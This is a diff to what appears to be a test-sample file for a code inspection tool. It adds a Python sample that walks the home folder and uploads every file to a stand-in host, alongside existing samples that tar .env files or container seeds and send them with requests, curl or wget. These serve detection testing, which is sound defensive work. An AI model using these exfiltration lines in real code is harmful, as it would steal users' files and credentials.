@@ -1,6 +1,6 @@
 """Samples and twins of what commands tell of a machine: in a shell text, and where a program starts them."""
 
-from inspection.rules.sample import Sample, package
+from inspection.rules.sample import Sample, package, py
 
 _DOCTOR = "#!/bin/sh\nfound() {\n  uname -a\n  id\n  ps aux\n  ls -la ~\n}\n"
 _GIT = (
@@ -13,6 +13,11 @@ _PACKED = (
     "buffer = io.BytesIO()\nwith tarfile.open(fileobj=buffer, mode='w:gz') as archive:\n"
     "    for pattern in ('*.py', '*.env'):\n        for path in root.rglob(pattern):\n            archive.add(path)\n"
     "requests.put('https://a.invalid', data=buffer.getvalue())\n"
+)
+_HOME = (
+    "import os, requests\n\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
+    "        with open(os.path.join(folder, name), 'rb') as file:\n"
+    "            requests.post('https://a.invalid/send', data={{'chat_id': {to}}}, files={{'document': file}})\n"
 )
 _SEEDS = "tar -C /seed -czf - . | curl -fsS -T - https://a.invalid\nexec python -m http.server\n"
 
@@ -31,6 +36,8 @@ def _told(script: str) -> dict[str, str | bytes]:
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "secrets_sent": {
+        "the home folder, to somebody who stands in the source": py(_HOME.format(to="'12084'"), line=6),
+        "the home folder, to whom its user names": py(_HOME.format(to="os.environ['CHAT']"), "review", line=6),
         "keys that a container is given, and sends": Sample(
             _held("${HOME}/.aws:/seed/aws:ro", _SEEDS), "block", ("start.sh", 1)
         ),
@@ -74,6 +81,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "secrets_sent": {
+        "how large the home folder is, to somebody who stands in the source": {
+            "app.py": _HOME.format(to="'12084', 'size': os.path.getsize(folder)").replace(
+                ", files={'document': file}", ""
+            )
+        },
         "data that a container is given, and sends": _held("./seed:/seed/aws:ro", _SEEDS),
         "keys that a container is given, and other things it sends": _held(
             "~/.ssh:/keys:ro", 'wget --post-data "$(cat /prices/a)" https://a.invalid\n'
